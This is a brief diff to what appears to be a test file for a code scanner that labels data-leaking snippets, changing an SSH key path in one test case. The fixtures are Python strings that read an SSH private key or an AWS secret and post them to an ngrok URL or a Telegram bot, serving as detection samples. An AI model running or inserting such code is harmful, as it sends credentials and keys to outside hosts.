@@ -157,7 +157,7 @@ CONCEALED = ("concealed-code", "block")
          "requests.post(U, json={'content': 'x'})\n", LEAVES),
         ("import requests, os\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage',"
          " json={'text': os.getenv('AWS_SECRET_ACCESS_KEY')})\n", LEAVES),
-        ("import requests\nwith open('/root/.ssh/id_rsa') as f:\n    k = f.read()\n"
+        ("import requests\nwith open('/home/app/.ssh/id_rsa') as f:\n    k = f.read()\n"
          "requests.post('https://a.ngrok-free.app/x', data=k)\n", LEAVES),
         ("import requests\ndef tell(token, text):\n"
          "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', json=text)\n",
